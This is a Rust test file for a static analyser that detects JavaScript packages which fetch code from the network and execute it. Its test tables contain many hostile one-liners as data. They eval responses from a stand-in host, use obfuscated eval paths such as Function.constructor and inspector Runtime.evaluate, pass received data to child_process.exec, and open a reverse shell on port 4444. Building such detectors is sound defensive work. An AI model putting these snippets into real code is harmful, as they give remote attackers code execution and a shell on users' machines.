//! What comes from the network by another way than the result of a call, and other ways to run it.

use weir_model::contents::{SinkKind, SourceKind, Surface};

use super::{installed, run};

use SinkKind::{DynamicCode, Process};
use SourceKind::Fetched;

/// What it does, where it goes, and how.
const ANSWERED: &[(&str, SinkKind, &str)] = &[
    (
        "evaluates the error of a request",
        DynamicCode,
        "require('axios').get('https://collector.invalid').catch(e => eval(e.response.data))",
    ),
    (
        "of one that was to be looked at first",
        DynamicCode,
        "require('axios').get('https://collector.invalid').then(r => r.status).catch(e => eval(e.response.data))",
    ),
    (
        "by the second function of then",
        DynamicCode,
        "require('got')('https://collector.invalid').then(null, e => eval(e.response.body))",
    ),
    (
        "by a block that catches",
        DynamicCode,
        "(async () => { try { await require('axios').get('https://collector.invalid') } catch (e) { eval(e.response.data) } })()",
    ),
    (
        "by one that takes it apart",
        DynamicCode,
        "(async () => { try { await require('axios').get('https://collector.invalid') } catch ({ response }) { eval(response.data) } })()",
    ),
    (
        "as a command",
        Process,
        "require('axios').post('https://collector.invalid').catch(e => require('child_process').exec(e.response.data.cmd))",
    ),
    (
        "evaluates what a page's request holds",
        DynamicCode,
        "const x = new XMLHttpRequest(); x.open('GET', 'https://collector.invalid'); x.onload = () => eval(x.response); x.send()",
    ),
    (
        "by what its handler is called on",
        DynamicCode,
        "const x = new XMLHttpRequest(); x.open('GET', 'https://collector.invalid'); x.onload = function () { eval(this.responseText) }; x.send()",
    ),
    (
        "by the event it is told of",
        DynamicCode,
        "const x = new XMLHttpRequest(); x.open('GET', 'https://collector.invalid'); x.addEventListener('load', e => eval(e.target.responseText)); x.send()",
    ),
    (
        "by a timer",
        DynamicCode,
        "const x = new XMLHttpRequest(); x.open('GET', 'https://collector.invalid'); x.onload = () => setTimeout(x.responseText, 10); x.send()",
    ),
    (
        "at once",
        DynamicCode,
        "const { XMLHttpRequest: Q } = require('xmlhttprequest'); const x = new Q(); x.open('GET', 'https://collector.invalid', false); x.send(); eval(x.responseText)",
    ),
    (
        "evaluates messages of a socket",
        DynamicCode,
        "const w = new WebSocket('wss://collector.invalid'); w.onmessage = e => eval(e.data)",
    ),
    (
        "evaluates events of a server",
        DynamicCode,
        "const s = new EventSource('https://collector.invalid'); s.onmessage = m => eval(m.data)",
    ),
    (
        "runs what comes in packets",
        Process,
        "const s = require('dgram').createSocket('udp4'); s.on('message', m => require('child_process').exec(m.toString())); s.bind(5)",
    ),
    (
        "hands the maker of code to a method of lists",
        DynamicCode,
        "fetch('https://collector.invalid').then(r => r.text()).then(s => { [s].map(eval) })",
    ),
    (
        "makes a function by the constructor of their maker",
        DynamicCode,
        "fetch('https://collector.invalid').then(r => r.text()).then(t => new (Function.constructor)('require', t)(require))",
    ),
    (
        "hands it to a promise",
        DynamicCode,
        "fetch('https://collector.invalid').then(r => r.text()).then([].at.constructor).then(f => f())",
    ),
    (
        "hands it the text by a debugger",
        DynamicCode,
        "fetch('https://collector.invalid').then(r => r.text()).then(s => { new (require('inspector').Session)().post('Runtime.evaluate', { expression: s }) })",
    ),
];

/// The same where only install is looked at so closely.
const AT_INSTALL: &[(&str, SinkKind, &str)] = &[
    (
        "sets a timer to text",
        DynamicCode,
        "fetch('https://collector.invalid').then(r => r.text()).then(s => { setTimeout(s) })",
    ),
    (
        "runs what a server is sent",
        Process,
        "require('http').createServer((q, r) => { let b = ''; q.on('data', c => b += c); q.on('end', () => r.end(require('child_process').execSync(b))) }).listen(0)",
    ),
    (
        "gives a runtime its input",
        Process,
        "fetch('https://collector.invalid').then(r => r.text()).then(s => { require('child_process').execFileSync('node', ['-'], { input: s }) })",
    ),
    (
        "gives a child its options",
        Process,
        "fetch('https://collector.invalid').then(r => r.text()).then(s => { require('child_process').fork('/dev/null', { execArgv: ['-e', s] }) })",
    ),
    (
        "gives a shell to a connection",
        Process,
        "const c = require('net').connect(4444, 'collector.invalid', () => require('child_process').spawn('/bin/sh', ['-i'], { stdio: [c, c, c] }))",
    ),
];

#[test]
fn answers_are_followed_however_they_arrive() {
    for (what, sink, code) in ANSWERED.iter().chain(AT_INSTALL) {
        let facts = installed(&[("index.js", code)]);
        let mut flows = facts.flows.iter();
        assert!(
            flows.any(|flow| flow.source == Fetched && flow.sink == *sink),
            "{what}: {:#?}",
            facts.flows
        );
    }
    // Off the install surface commands are what tools are for.
    for (what, sink, code) in ANSWERED.iter().filter(|(_, sink, _)| *sink == DynamicCode) {
        let facts = run(&[("index.js", code)], &[], &[(Surface::Import, "index.js")]);
        let mut flows = facts.flows.iter();
        assert!(
            flows.any(|flow| flow.source == Fetched && flow.sink == *sink),
            "imported, {what}: {:#?}",
            facts.flows
        );
    }
}

#[test]
fn a_shell_that_an_import_joins_to_a_connection_is_followed() {
    let code = "const net = require('net'), { spawn } = require('child_process'); const sh = spawn('/bin/sh', []);
        const c = net.connect(4444, 'collector.invalid', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })";
    let facts = run(&[("index.js", code)], &[], &[(Surface::Import, "index.js")]);
    let mut flows = facts.flows.iter();
    assert!(
        flows.any(|flow| flow.source == Fetched && flow.sink == Process),
        "{:#?}",
        facts.flows
    );
    // Near miss: it is given what it runs.
    let code = code.replace("[]", "['-c', 'ls']");
    let facts = run(
        &[("index.js", &code)],
        &[],
        &[(Surface::Import, "index.js")],
    );
    assert_eq!(facts.flows, []);
}

#[test]
fn near_misses_are_none() {
    for code in [
        // An error's own text is no answer.
        "require('axios').get('https://collector.invalid').catch(e => eval(e.message))",
        "try { f(1) } catch (e) { eval(e.response.data) }",
        // Timers are mostly given functions.
        "const r = require('https').get('https://collector.invalid'); setTimeout(r.destroy.bind(r), 10); eval(text)",
        "const x = new XMLHttpRequest(); x.onload = () => eval(x.status)",
        "const r = require('https').request('https://collector.invalid'); r.on('timeout', () => setTimeout(() => r.end(), 10))",
        "require('child_process').spawn('/bin/sh', ['-i'], { stdio: ['pipe', 'inherit', 'inherit'] })",
        "['a', 'b'].map(eval)",
    ] {
        let facts = installed(&[("index.js", code)]);
        assert_eq!(facts.flows, [], "{code}");
    }
}
